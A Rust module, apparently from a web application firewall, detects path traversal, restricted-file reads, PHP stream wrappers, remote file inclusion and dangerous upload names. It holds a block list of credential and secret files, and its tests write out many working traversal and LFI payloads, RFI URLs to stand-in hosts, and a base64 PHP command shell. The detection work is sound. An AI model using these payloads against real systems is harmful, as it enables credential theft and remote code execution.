//! Path traversal and restricted-file access: does a value, used as a file name by the
//! application, climb out of the directory it is meant for, or name a file no request
//! should name?
//!
//! The value is normalised the way file APIs read it (deep URL decoding, `\` and
//! overlong forms as `/`, NUL as the end of the name; and a second time with its NUL
//! bytes removed, as filters that strip them pass it on) and split into segments. A
//! segment made only of dots (`..`, and `...`/`....` which Windows and naive
//! `str_replace("../", "")` filters collapse to `..`) that is followed by a separator
//! climbs. Restricted names (`/etc/passwd`, `win.ini`, `WEB-INF/web.xml`, `.ssh/`) are
//! matched by one Aho-Corasick pass; they need a path separator before them so prose
//! does not match.

use crate::profile::{Profile, class};
use aho_corasick::AhoCorasick;
use std::sync::LazyLock;

/// A detected traversal.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TraversalMatch {
    /// `climb` (dot segments), `restricted_file`, `restricted_upload`, `file_scheme`,
    /// `stream_wrapper` or `remote_inclusion`.
    pub reason: &'static str,
}

/// Files and directories whose names only an attack sends. Each begins after a
/// separator (checked at match time) so `passwd` alone or a sentence does not match.
const RESTRICTED: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/hosts",
    "etc/issue",
    // What every system has and nothing else names: wapiti's probe where `/etc/passwd`
    // is filtered.
    "etc/services",
    "etc/master.passwd",
    "etc/subuid",
    "etc/sudoers",
    // `/proc/` and what follows it: [`PROC_FILES`], or a process's number.
    "proc/",
    "sys/class",
    "boot.ini",
    "win.ini",
    "system.ini",
    "windows/system32",
    "winnt/system32",
    "web-inf/",
    "meta-inf/",
    "global.asa",
    ".ssh/",
    "id_rsa",
    ".docker/",
    ".git/",
    ".htpasswd",
    ".htaccess",
    ".env",
    ".bash_history",
    "wp-config.php",
    "wp-content/debug.log",
    "@fs/",
    "inetpub/wwwroot",
    // What LFI wordlists go on to read once `/etc/passwd` works: other account
    // databases, a container's service account token, shell histories and credential
    // files, the web server's and the system's logs (to poison them with code), and
    // Windows' registry hives and unattended-install answers. Configuration files a
    // container mounts by name (`/etc/nginx/nginx.conf`, `my.cnf`, `php.ini`) are left
    // out: Kubernetes API traffic names them every day.
    "etc/gshadow",
    "etc/security/passwd",
    "etc/security/opasswd",
    "etc/pwd.db",
    "etc/spwd.db",
    "secrets/kubernetes.io/serviceaccount/token",
    ".mysql_history",
    ".psql_history",
    ".zsh_history",
    ".sh_history",
    ".netrc",
    ".pgpass",
    ".git-credentials",
    "access_log",
    "error_log",
    "var/adm/",
    ".rhosts",
    "logs/access.log",
    "logs/error.log",
    "apache2/access.log",
    "apache2/error.log",
    "apache/access.log",
    "apache/error.log",
    "httpd/access.log",
    "httpd/error.log",
    "nginx/access.log",
    "nginx/error.log",
    "var/log/auth.log",
    "var/log/secure",
    "var/log/messages",
    "var/log/syslog",
    "var/log/wtmp",
    "var/log/btmp",
    "var/log/lastlog",
    "var/log/maillog",
    "var/log/mail.log",
    "var/log/kern.log",
    "ntuser.dat",
    "system32/config/sam",
    "windows/repair/",
    "panther/unattend",
    "unattend.xml",
    "unattended.xml",
    "sysprep.inf",
    "sysprep/sysprep.xml",
    "applicationhost.config",
    // AI coding assistants' project configuration, committed or copied into web roots
    // with the code: MCP server definitions with their tokens, API keys, agent rules
    // and hooks that run commands. Scanners ask for them as they ask for `.env`.
    ".claude/",
    ".cursor/",
    ".continue/",
    ".codex/",
    ".windsurf/",
    ".roo/",
    ".cline/",
    ".kiro/",
    ".junie/",
    ".opencode/",
    ".gemini/",
    ".aider",
    ".aiignore",
    ".amazonq/",
    ".tabnine/",
    ".codeium/",
    ".augment/",
    ".goose/",
    ".clinerules",
    ".trae/",
    ".qwen/",
    ".zed/",
    ".rovodev/",
    ".a0proj/",
    ".plandex/",
    ".fabric/",
    ".n8n/",
    // More of what LFI lists (ModSecurity CRS's `lfi-os-files.data` and
    // `restricted-files.data`) read once a file read works, kept to names no form,
    // document link or pod spec carries: shell and REPL histories and start-up files
    // (`.bash_` stops anywhere: `.bash_profile`, `.bash_logout`...), credential stores
    // and the tools' configuration that holds tokens, version-control metadata, CMS
    // and framework secrets, host keys and system files scanners fingerprint with.
    // Mount points of pod specs and log shippers (`/var/log`, `/proc`, `/sys`,
    // `/etc/ssl`, `/etc/nginx/`) stay out.
    ".bash_",
    ".bashrc",
    ".zshrc",
    ".zshenv",
    ".cshrc",
    ".tcshrc",
    ".kshrc",
    ".ashrc",
    ".ksh_history",
    ".ash_history",
    ".csh_history",
    ".tcsh_history",
    ".zhistory",
    ".python_history",
    ".node_repl_history",
    ".php_history",
    ".rediscli_history",
    ".sqlite_history",
    ".nano_history",
    ".lldb-history",
    ".lesshst",
    ".viminfo",
    ".google_authenticator",
    ".password-store",
    ".gnupg/",
    ".s3cfg",
    ".boto",
    ".my.cnf",
    ".npmrc",
    ".pypirc",
    ".envrc",
    ".htdigest",
    ".lighttpdpassword",
    ".deployment-secrets.txt",
    ".remote-sync.json",
    "ftp-sync.json",
    ".vscode/sftp.json",
    ".ftpconfig",
    ".msmtprc",
    ".xauthority",
    ".azure/",
    ".gsutil/",
    ".minikube/",
    ".vagrant.d/",
    ".aws/",
    ".kube/",
    ".svn/",
    ".hg/",
    ".bzr/",
    ".ds_store",
    "ws_ftp.ini",
    "wp-config.",
    "wp-config-",
    "wp-config_",
    "sites/default/settings.php",
    "app/etc/env.php",
    "app/etc/local.xml",
    "typo3conf/localconf.php",
    "localsettings.php",
    "config.inc.php",
    "tomcat-users.xml",
    "debian.cnf",
    "sendgrid.env",
    "user_secrets.yml",
    "initial_root_password",
    "anaconda-ks.cfg",
    "sslvpn_websession",
    "ldap-authentication-report.csv",
    "etc/crontab",
    "etc/ssh/ssh_host_",
    "etc/ssh/sshd_config",
    "etc/fstab",
    "etc/mtab",
    "etc/motd",
    "etc/lsb-release",
    "etc/debian_version",
    "etc/redhat-release",
    "etc/centos-release",
    "etc/login.defs",
    "etc/pam.d/",
    "etc/smbpasswd",
    "etc/ftpusers",
    "etc/exports",
    "etc/inetd.conf",
    "etc/at.allow",
    "etc/cron.allow",
    "var/run/utmp",
    "var/spool/cron",
    "boot/grub/grub.cfg",
    "boot/grub/menu.lst",
    "system32/inetsrv/config",
    "winnt/repair/",
    "windows/debug/netsetup.log",
    "windows/setupact.log",
    "windows/windowsupdate.log",
    // Vite's dev server reads any file through its virtual-module prefix
    // (CVE-2025-31125, as `@fs/` above for CVE-2025-30208).
    "@id/__x00__",
];

/// What after `proc/` only an attack reads: the process's environment and memory, the
/// kernel's version, symbols and memory, the network tables.
const PROC_FILES: &[&str] = &[
    "self/",
    "thread-self/",
    "version",
    "net/",
    "sys/",
    "interrupts",
    "cpuinfo",
    "kcore",
    "kallsyms",
    "cmdline",
    "sched_debug",
];

/// Is what follows `proc/` a file only an attack reads: one of [`PROC_FILES`], or a
/// file of a process by its number (`/proc/1/environ`, `/proc/42/cmdline`,
/// `/proc/1/root/etc/shadow`), what LFI wordlists walk when `/proc/self/` is filtered.
fn proc_file(rest: &[u8]) -> bool {
    let named = PROC_FILES.iter().any(|f| {
        rest.len() >= f.len()
            && rest[..f.len()].eq_ignore_ascii_case(f.as_bytes())
            && (f.ends_with('/') || rest.get(f.len()).is_none_or(|c| !c.is_ascii_alphanumeric()))
    });
    let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
    named || (digits > 0 && rest.get(digits) == Some(&b'/') && rest.len() > digits + 1)
}

static FINDER: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .start_kind(aho_corasick::StartKind::Both)
        .build(RESTRICTED)
        .expect("static patterns")
});

/// Does the value open with a restricted file's name (`wp-config.php`, `win.ini`)? What
/// the sensors' first filter asks of a value with nothing else to read (letters,
/// digits, dots): one anchored search, which fails on most values' first bytes.
pub(crate) fn opens_with_restricted_name(v: &[u8]) -> bool {
    let input = aho_corasick::Input::new(v).anchored(aho_corasick::Anchored::Yes);
    FINDER.find(input).is_some()
}

/// The readings of a value a file API may get: cut at its first NUL, and, when it holds
/// one, with every NUL removed. Filters that strip NUL bytes (`str_replace("\0", "")`,
/// sanitisers of C strings) turn `.%00./.%00./etc/passwd` and `%00../../etc/passwd`
/// into a climb the cut reading never shows.
fn judge_readings(v: &[u8]) -> Option<TraversalMatch> {
    let decoded = crate::decode::url_decode_deep(v);
    judge_decoded(&decoded).or_else(|| {
        // Only a value with an escape the strict reading left alone, a lead byte it
        // could not fold, or an escaped C0/C1 lead byte it folded its own way (`%c1%af`
        // is `o` to it) reads differently to the lenient decoder.
        let lenient = memchr::memchr(b'%', &decoded).is_some()
            || decoded
                .iter()
                .any(|&b| matches!(b, 0xC0 | 0xC1 | 0xF0 | 0xF8))
            || v.windows(3).any(|w| {
                w[0] == b'%' && matches!(w[1], b'c' | b'C') && matches!(w[2], b'0' | b'1')
            });
        lenient.then(|| judge_decoded(&iis_decode(v))).flatten()
    })
}

fn judge_decoded(decoded: &[u8]) -> Option<TraversalMatch> {
    let Some(first_nul) = memchr::memchr(0, decoded) else {
        return judge(&unify(decoded));
    };
    // A URL ended by a NUL: the poisoned byte that, like a trailing `?`, drops the
    // extension an `include` appends (`http://evil.example/e.php%00`).
    if remote_inclusion(&[&decoded[..first_nul], b"?"].concat()) {
        return Some(TraversalMatch {
            reason: "remote_inclusion",
        });
    }
    judge(&unify(&decoded[..first_nul])).or_else(|| {
        let stripped: Vec<u8> = decoded.iter().copied().filter(|&b| b != 0).collect();
        judge(&unify(&stripped))
    })
}

/// The value as IIS 4 and 5 decoded it (the "Unicode" traversals, CVE-2000-0884, that
/// dotdotpwn still generates): any two letters or digits after `%` are read as hex
/// digits without checking (`%9v` is 0x9F + 16 = 0xAF, `%qf` is 0xAF), and a C0 or C1
/// lead byte is folded with whatever byte follows it (`C0 2F`, `C1 1C`) when that
/// spells `/`, `\` or `.`.
fn iis_decode(v: &[u8]) -> Vec<u8> {
    let digit = |c: u8| -> Option<u32> {
        match c {
            b'0'..=b'9' => Some(u32::from(c - b'0')),
            b'a'..=b'z' | b'A'..=b'Z' => Some(u32::from((c | 0x20) - b'a') + 10),
            _ => None,
        }
    };
    let mut bytes = Vec::with_capacity(v.len());
    let mut i = 0;
    while i < v.len() {
        if v[i] == b'%'
            && let (Some(h), Some(l)) = (
                v.get(i + 1).copied().and_then(digit),
                v.get(i + 2).copied().and_then(digit),
            )
        {
            bytes.push(((h << 4) + l) as u8);
            i += 3;
            continue;
        }
        bytes.push(v[i]);
        i += 1;
    }
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let c = bytes[i];
        if matches!(c, 0xC0 | 0xC1)
            && let Some(&n) = bytes.get(i + 1)
        {
            // `C1 AF` folds to `o`, but dotdotpwn sends it for `/` and ModSecurity's
            // CRS 930100 lists it as one: read so here, never in the strict reading.
            let folded = match (c, n) {
                (0xC1, 0xAF) => b'/',
                _ => ((c & 0x1F) << 6) | (n & 0x3F),
            };
            if matches!(folded, b'/' | b'\\' | b'.') {
                out.push(folded);
                i += 2;
                continue;
            }
            // A lead byte without its continuation, dropped as invalid (`C0 5C`).
            if n & 0xC0 != 0x80 {
                i += 1;
                continue;
            }
        }
        // Four- and five-byte overlong forms (`F0 80 80 AF`, `F8 80 80 80 AF`).
        let run = match c {
            0xF0 => 3,
            0xF8 => 4,
            _ => 0,
        };
        if run > 0
            && let Some(tail) = bytes.get(i + 1..i + 1 + run)
            && tail[..run - 1].iter().all(|&b| b == 0x80)
            && matches!(tail[run - 1] & 0x3F, b'/' | b'\\' | b'.')
            && tail[run - 1] & 0xC0 == 0x80
        {
            out.push(tail[run - 1] & 0x3F);
            i += 1 + run;
            continue;
        }
        out.push(c);
        i += 1;
    }
    out
}

/// Separators and dots as a file API sees them: `\`, a written-out `0x5c`/`0x2f` and
/// the Unicode slashes as `/`, a written-out `0x2e` and the fullwidth dot as `.`.
fn unify(v: &[u8]) -> Vec<u8> {
    let end = v.len();
    let mut out = Vec::with_capacity(end);
    let mut i = 0;
    while i < end {
        // `0x5c`/`0x2f` written out as text: some PHP apps run hexdec-style decoding.
        if v[i..end].len() >= 4 && v[i] == b'0' && matches!(v[i + 1], b'x' | b'X') {
            match &v[i + 2..i + 4] {
                b"5c" | b"5C" | b"2f" | b"2F" => {
                    out.push(b'/');
                    i += 4;
                    continue;
                }
                b"2e" | b"2E" => {
                    out.push(b'.');
                    i += 4;
                    continue;
                }
                _ => {}
            }
        }
        // Separators as ModSecurity's CRS 930100 lists them from dotdotpwn's
        // encodings, which URL decoding leaves as `%2%f` and `%5%c`: the
        // double-percent `%%32%%66` and `%%35%%63` (`%c1%af`: [`iis_decode`]).
        if v[i] == b'%'
            && let Some(w) = v.get(i..i + 4)
            && matches!(
                [w[1], w[2], w[3].to_ascii_lowercase()],
                [b'2', b'%', b'f'] | [b'5', b'%', b'c']
            )
        {
            out.push(b'/');
            i += 4;
            continue;
        }
        out.push(match v[i] {
            b'\\' => b'/',
            c => c,
        });
        i += 1;
    }
    if out.is_ascii() {
        return out;
    }
    // U+2215 DIVISION SLASH, U+2216 SET MINUS and the fullwidth `／` `＼` are best-fit
    // mapped to `/` and `\` on Windows; NFKC normalisation (Python, Java, .NET) turns
    // the fullwidth `．` `／` `＼` into `.` `/` `\`.
    for (pat, to) in [
        // IIS's `%u` forms of `/` and `\` in dotdotpwn's lists.
        ("\u{efc8}", "/"),
        ("\u{f025}", "/"),
        ("\u{2215}", "/"),
        ("\u{ff0f}", "/"),
        ("\u{2216}", "/"),
        ("\u{ff3c}", "/"),
        ("\u{ff0e}", "."),
    ] {
        if memchr::memmem::find(&out, pat.as_bytes()).is_some() {
            out = String::from_utf8_lossy(&out).replace(pat, to).into_bytes();
        }
    }
    out
}

/// Judge one decoded value (a parameter, a header value, the request path).
pub fn detect(value: &[u8]) -> Option<TraversalMatch> {
    detect_profiled(value, Profile::of(value))
}

/// [`detect`] with the value's byte classes already known.
pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<TraversalMatch> {
    // A written-out separator (`0x2e0x2e0x2fetc0x2fpasswd`) is made of letters and
    // digits only.
    let written = p.any(class::ZERO) && p.any(class::X) && written_separator(value);
    // Cheap exit: a climb needs `..` and a restricted name needs a separator (`.`,
    // `/`, `\`, a `%` that may decode to one, a Unicode slash or dot, or one written
    // out).
    if !p.any(class::PATH) && !written {
        return ntfs_stream(value);
    }
    // Nothing to decode, unify or cut (the common case: ASCII, no `%`, `\`, NUL, no
    // written-out separator): the value is its own normalised form, judged in place.
    if !(p.any(class::PATH_DECODE) || written) {
        return judge(value);
    }
    judge_readings(value)
}

/// A separator or dot written out as hex text (`0x2f`, `0x5C`, `0x2e`), which [`unify`]
/// reads as one.
pub(crate) fn written_separator(v: &[u8]) -> bool {
    v.windows(4).any(|w| {
        w[0] == b'0'
            && matches!(w[1], b'x' | b'X')
            && matches!(
                [w[2], w[3].to_ascii_lowercase()],
                [b'5', b'c'] | [b'2', b'f'] | [b'2', b'e']
            )
    })
}

/// [`detect`] without the shortcut for values with nothing to normalise: the reference
/// it must agree with.
#[doc(hidden)]
pub fn detect_exhaustive(value: &[u8]) -> Option<TraversalMatch> {
    let separator = |b: &u8| matches!(b, b'.' | b'/' | b'\\' | b'%' | 0xE2 | 0xEF);
    if !value.iter().any(separator) && !written_separator(value) {
        return ntfs_stream(value);
    }
    judge_readings(value)
}

fn judge(p: &[u8]) -> Option<TraversalMatch> {
    if climbs(p) {
        return Some(TraversalMatch { reason: "climb" });
    }
    for m in FINDER.find_iter(p) {
        let start = m.start();
        let before = start.checked_sub(1).map(|i| p[i]);
        let after = p.get(m.end()).copied();
        let pat = RESTRICTED[m.pattern().as_usize()];
        // Names ending in a separator, or in the `.`, `-`, `_` that start a suffix
        // (`wp-config.php.bak`, `.bash_profile`), stop anywhere; others must end the
        // name.
        let ends = if pat == "proc/" {
            proc_file(&p[m.end()..])
        } else {
            pat.ends_with(['/', '.', '-', '_']) || after.is_none_or(|c| !c.is_ascii_alphanumeric())
        };
        // At the very start: dot-files, names of more than one segment (`etc/shadow`,
        // `proc/self/environ`, `WEB-INF/web.xml`: relative to a root the application
        // supplies; no sentence starts so), and a file name that is the whole value
        // (`?file=wp-config.php`: the application's own secrets, next to its scripts).
        let whole_name = || pat.contains('.') && !p.iter().any(|c| c.is_ascii_whitespace());
        let starts = matches!(before, Some(b'/' | b':'))
            || (before.is_none() && (pat.starts_with('.') || pat.contains('/') || whole_name()))
            || pat.starts_with('@');
        if starts && ends {
            return Some(TraversalMatch {
                reason: "restricted_file",
            });
        }
    }
    if starts_with_ci(p, b"file:") {
        return Some(TraversalMatch {
            reason: "file_scheme",
        });
    }
    if WRAPPERS.iter().any(|w| starts_with_ci(p, w.as_bytes())) {
        return Some(TraversalMatch {
            reason: "stream_wrapper",
        });
    }
    if remote_inclusion(p) {
        return Some(TraversalMatch {
            reason: "remote_inclusion",
        });
    }
    ntfs_stream(p)
}

/// NTFS's default data stream (`index.asp::$DATA`): IIS serves a script's source for it
/// instead of running the script. Asked before the cheap exit too: the name may have no
/// separator at all.
fn ntfs_stream(p: &[u8]) -> Option<TraversalMatch> {
    (p.len() >= 7 && p[p.len() - 7..].eq_ignore_ascii_case(b"::$data")).then_some(TraversalMatch {
        reason: "ntfs_stream",
    })
}

/// Remote file inclusion as ModSecurity's CRS 931120 reads it: a value that is a URL
/// (`http`, `https`, `ftp`, `ftps`) ending in `?`, the trick that turns what the
/// application appends to it (`include($page . ".php")`) into a query string the remote
/// server ignores: `?page=http://evil.example/shell.txt?`, what nmap's `http-rfi-spider`
/// sends. A URL that ends a sentence with a question mark is prose (it has blanks).
fn remote_inclusion(p: &[u8]) -> bool {
    let rest = ["http://", "https://", "ftp://", "ftps://"]
        .iter()
        .find_map(|s| crate::decode::strip_prefix_ci(p, s.as_bytes()));
    rest.is_some_and(|r| {
        r.first()
            .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'[')
            && r.ends_with(b"?")
            && !r.iter().any(|c| c.is_ascii_whitespace())
    })
}

/// PHP's stream wrappers, which `include`, `file_get_contents` and their kind open like
/// files: a script's own source (`php://filter/convert.base64-encode/resource=index.php`),
/// the request body (`php://input`), an archive's member (`zip://shell.jpg#x.php`,
/// `phar://`), a command's output (`expect://id`). `data://` with slashes is PHP's
/// (browsers write `data:`). No form value starts so.
const WRAPPERS: &[&str] = &[
    "php://",
    "phar://",
    "zip://",
    "rar://",
    "expect://",
    "glob://",
    "data://",
    "ogg://",
    "compress.zlib://",
    "compress.bzip2://",
    "ssh2.shell://",
    "ssh2.exec://",
    "ssh2.sftp://",
    "ssh2.scp://",
    "ssh2.tunnel://",
];

fn starts_with_ci(s: &[u8], p: &[u8]) -> bool {
    crate::decode::strip_prefix_ci(s, p).is_some()
}

/// A dot-only segment (two dots or more) followed by a separator, or `;`-padded
/// segments (`..;/`, Tomcat's path parameters).
fn climbs(p: &[u8]) -> bool {
    let mut seg_start = 0;
    // `...` segments: one is how a shortened path starts (`.../tests/a.ttf | Bin`, what
    // `git diff --stat` writes); dotdotpwn repeats them (`.../.../win.ini`).
    let mut three = 0;
    for (i, &c) in p.iter().enumerate() {
        if c == b'/' {
            let seg = &p[seg_start..i];
            let seg = seg.split(|&b| b == b';').next().unwrap_or(seg);
            if seg.len() >= 2 && seg.iter().all(|&b| b == b'.') {
                three += usize::from(seg.len() == 3);
                if seg.len() != 3 || three >= 2 {
                    return true;
                }
            }
            seg_start = i + 1;
        }
    }
    // A run of four dots or more glued to a name: what is left of `....//etc/passwd`
    // after a filter removed the slashes.
    p.windows(5)
        .any(|w| w[..4] == *b"...." && w[4].is_ascii_alphabetic())
        || memchr::memchr(b'{', p).is_some() && placeholder_climb(p)
}

/// A traversal template a scanner sent unfilled: a placeholder (`{file}`) where the
/// file name goes, after what only climbs or pads a path: a segment holding a dot run
/// (`/..{file}`, `/aaaa…aaaa....{file}`, the padding of path truncation), a lone `.`
/// segment, or after an empty or dot-only one (`///{file}`, `/.//./{file}`,
/// `/.../{file}`). A route template names its
/// placeholders after plain segments (`/repos/{owner}/{repo}`).
fn placeholder_climb(p: &[u8]) -> bool {
    memchr::memchr_iter(b'{', p).any(|i| {
        let name = &p[i + 1..];
        let len = name
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        if len == 0 || name.get(len) != Some(&b'}') {
            return false;
        }
        let before = &p[..i];
        let seg_start = memchr::memrchr(b'/', before).map_or(0, |s| s + 1);
        let seg = &before[seg_start..];
        if seg.is_empty() {
            // The placeholder starts a segment: what padded the one before it?
            let prev = &before[..seg_start.saturating_sub(1)];
            let prev = &prev[memchr::memrchr(b'/', prev).map_or(0, |s| s + 1)..];
            seg_start > 1 && prev.iter().all(|&b| b == b'.')
        } else {
            seg == b"." || memchr::memmem::find(seg, b"..").is_some()
        }
    })
}

/// Extensions the web servers in front of applications run as programs: PHP (and the
/// versions and wrappers Apache's handlers map), JSP, ASP.NET, server-side includes, CGI.
const SCRIPT_EXTENSIONS: &[&str] = &[
    "php", "php3", "php4", "php5", "php7", "php8", "phtml", "phar", "pht", "jsp", "jspx", "asp",
    "aspx", "ashx", "asmx", "shtml", "cgi",
];

/// Files that change what the server does or holds its secrets, wherever they land:
/// per-directory server configuration (Apache, IIS, PHP), the application's secrets.
const RESTRICTED_UPLOADS: &[&str] = &[
    ".htaccess",
    ".htpasswd",
    ".htdigest",
    ".user.ini",
    "web.config",
    "php.ini",
    "wp-config.php",
    ".env",
    "authorized_keys",
];

/// An uploaded file's name (a multipart part's `filename`) that a server would run or
/// obey: a script extension, or a restricted name. Read as servers and filters do: the
/// last path segment, cut at a NUL, without white space (`wp-config. php`) and
/// trailing dots (`shell.php.`, which Windows drops), in any case.
pub fn restricted_upload(name: &[u8]) -> Option<TraversalMatch> {
    let name = name.split(|&c| c == 0).next().unwrap_or_default();
    let base = name
        .rsplit(|&c| c == b'/' || c == b'\\')
        .next()
        .unwrap_or_default();
    let mut n: Vec<u8> = base
        .iter()
        .filter(|c| !c.is_ascii_whitespace())
        .map(u8::to_ascii_lowercase)
        .collect();
    while n.last() == Some(&b'.') {
        n.pop();
    }
    let restricted = RESTRICTED_UPLOADS.iter().any(|r| n == r.as_bytes());
    let script = n
        .iter()
        .rposition(|&c| c == b'.')
        .filter(|&i| i > 0)
        .is_some_and(|i| {
            SCRIPT_EXTENSIONS
                .iter()
                .any(|e| n[i + 1..] == *e.as_bytes())
        });
    (restricted || script).then_some(TraversalMatch {
        reason: "restricted_upload",
    })
}

#[cfg(test)]
mod tests {
    use super::detect;

    #[test]
    fn ntfs_streams_and_common_files() {
        for (a, why) in [
            ("index.asp::$DATA", "ntfs_stream"),
            ("search::$DATA", "ntfs_stream"),
            (
                "C:\\inetpub\\wwwroot\\default.aspx::$data",
                "restricted_file",
            ),
            ("/etc/services", "restricted_file"),
            ("/etc/services%00", "restricted_file"),
            // a secret file's name as the whole value (`?aam-media=wp-config.php`)
            ("wp-config.php", "restricted_file"),
            ("WP-CONFIG.PHP.bak", "restricted_file"),
            ("win.ini", "restricted_file"),
        ] {
            assert_eq!(detect(a.as_bytes()).map(|m| m.reason), Some(why), "{a}");
        }
        for b in [
            "price::$5",
            "the $DATA field",
            "services",
            "our services/pricing page",
            "wp-config.php is where the keys go",
            "mywp-config.php",
        ] {
            assert_eq!(detect(b.as_bytes()), None, "{b}");
        }
    }

    #[test]
    fn remote_inclusion() {
        for a in [
            "http://tools.ietf.org/html/rfc13?",
            "HTTPS://evil.example/shell.txt??",
            "ftp://10.0.0.1/x.txt?",
            // An empty query is one too, as CRS 931120 reads it.
            "https://example.com/page?",
            // The NUL byte does what the `?` does (wapiti's payloads).
            "http://wapiti.example/e.php%00",
            "https://wapiti3.ovh/e.php\0",
        ] {
            let r = detect(a.as_bytes()).map(|m| m.reason);
            assert_eq!(r, Some("remote_inclusion"), "{a}");
        }
        for b in [
            "http://example.com/search?q=1",
            "http://example.com/",
            "is http://example.com up?",
            "see http://example.com/faq?",
            "http://?",
        ] {
            assert_eq!(detect(b.as_bytes()), None, "{b}");
        }
    }

    #[test]
    fn climbs_and_files() {
        for a in [
            "../../etc/passwd",
            "..\\pineapple",
            "%2e%2e%2f",
            "..%c0%af..%c0%afetc",
            "....//....//etc/passwd",
            ".../.../x",
            "....//x",
            "/etc/passwd%00",
            "c:/windows/win.ini",
            "/WEB-INF/web.xml",
            "file:/etc/passwd",
            "..;/x",
            "0x5c0x2e./",
            "0x2e0x2e0x2fetc0x2fpasswd",
            ".\0./.\0./etc/passwd",
            "\0../../../etc/passwd",
            "\u{ff0e}\u{ff0e}\u{ff0f}\u{ff0e}\u{ff0e}\u{ff0f}etc\u{ff0f}passwd",
            "%uff0e%uff0e/%uff0e%uff0e/x",
            // IIS 4/5's lenient decoding (dotdotpwn)
            "..%c0%2f..%c0%2fetc%c0%2fpasswd",
            "..%c0%9v..%c0%9vwinnt",
            "..%c1%8s..%c1%8sboot.ini",
            "..%bg%qf..%bg%qfetc",
            "..%c1%1c..%c1%1cwinnt",
            "..%c0%5c..%c0%5cwinnt",
            "..%f0%80%80%af..%f0%80%80%afetc",
            "..%f8%80%80%80%af..%f8%80%80%80%afetc",
            // dotdotpwn's separators that ModSecurity's CRS 930100 lists too
            "..%c1%af..%c1%afetc%c1%afpasswd",
            "..%C1%AFetc%C1%AFissue",
            "..%%32%%66..%%32%%66etc%%32%%66passwd",
            "%25c0%25ae%25c0%25ae%%35%%63boot.ini",
            "%uff0e%uff0e%%35%%63etc%%35%%63passwd",
            // more restricted names; multi-segment names at the start
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "/var/log/apache2/access.log",
            "/usr/local/apache/logs/error_log",
            "C:/Users/Administrator/NTUser.dat",
            "c:\\windows\\repair\\sam",
            "etc/shadow%00",
            "proc/self/environ",
            ".htaccess",
            "..%uEFC8..%uEFC8etc",
            "/.cursor/mcp.json",
            "/app/.claude/settings.local.json",
            ".aider.conf.yml",
            "/.amazonq/rules/deploy.md",
            "/project/.zed/settings.json",
            // CRS's file lists: histories, credential stores, CMS secrets, processes
            "/root/.bash_profile",
            "../../home/u/.python_history",
            "/.gnupg/secring.gpg",
            "/var/www/wp-config.php.bak",
            "/wp-config-sample.php",
            "/.svn/entries",
            "/.DS_Store",
            "/sites/default/settings.php",
            "/conf/tomcat-users.xml",
            "/proc/1/environ",
            "/proc/2345/cmdline",
            "/etc/ssh/ssh_host_rsa_key",
            "/.fabric/fabric.env",
            "/.n8n/config",
            "/@id/__x00__/etc/passwd?import&raw",
            // traversal templates sent unfilled (HttpParamsDataset's scanner rows)
            "/..{file}",
            "/aaaaaaaaaaaaaaaa....{file}",
            "/0x2e0x2ex2e0x2e{file}",
            "///{file}",
            "/.//././/./{file}",
            "/./.{file}",
            // PHP's stream wrappers (payloadbox's rfi-lfi list)
            "php://filter/convert.base64-encode/resource=index.php",
            "pHp://FilTer/read=string.rot13/resource=index.php",
            "php://input",
            "zip://shell.jpg#payload.php",
            "phar://uploads/avatar.jpg/shell.php",
            "expect://id",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
        ] {
            assert!(detect(a.as_bytes()).is_some(), "{a}");
        }
        for b in [
            "/get/foo../1234",
            "/get/..foo",
            "/get/..",
            "wait... what",
            "http://example.com/a/b.html",
            "passwd",
            "1.2.3",
            "/css/style.css",
            "0x2e",
            "a\0b",
            "\u{ff0e}\u{ff0e}\u{ff0e} more",
            "100%good",
            "%bg%qf",
            // `C1 AF` is an overlong `o` to a strict decoder; `%2%f` only after `..`.
            "co%c1%afl",
            "50%2%f off",
            "%c1%af",
            "/etc/nginx/nginx.conf",
            "/var/log/nginx",
            "the error_log directive",
            "etc. and so on",
            "/docs/claude/intro",
            "see the .cursor file",
            "/api/gemini/v1",
            "see http://php.net/manual and php://",
            "data:image/png;base64,iVBORw0KGgo=",
            "ssh2.example.com",
            "/proc/cpu",
            "/proc/12",
            "improc/1/x",
            "/repos/{owner}/{repo}/contents/{path}",
            ".../tests/files/cacert3-trusted-keyid.pem          |   0",
            "see .../src/x.c",
            "/static/logo.{ext}",
            "/{file}",
            "{file}",
            "a/{",
            "/x//y{z",
            "see the wp-config docs",
            "/docs/bash_scripting",
        ] {
            assert!(detect(b.as_bytes()).is_none(), "{b}");
        }
    }
    #[test]
    fn restricted_uploads() {
        use super::restricted_upload;
        for a in [
            "shell.php",
            "wp-config. php",
            "x.PHtml",
            "shell.php.",
            "shell.php \0.jpg",
            "C:\\inetpub\\cmd.aspx",
            ".htaccess",
            "../.user.ini",
            "report.jsp",
        ] {
            assert!(restricted_upload(a.as_bytes()).is_some(), "{a}");
        }
        for b in [
            "photo.jpg",
            "php",
            ".php",
            "notes.php.txt",
            "phpinfo.pdf",
            "archive.tar.gz",
            "env",
            "my.env.example",
            "",
        ] {
            assert!(restricted_upload(b.as_bytes()).is_none(), "{b}");
        }
    }
}
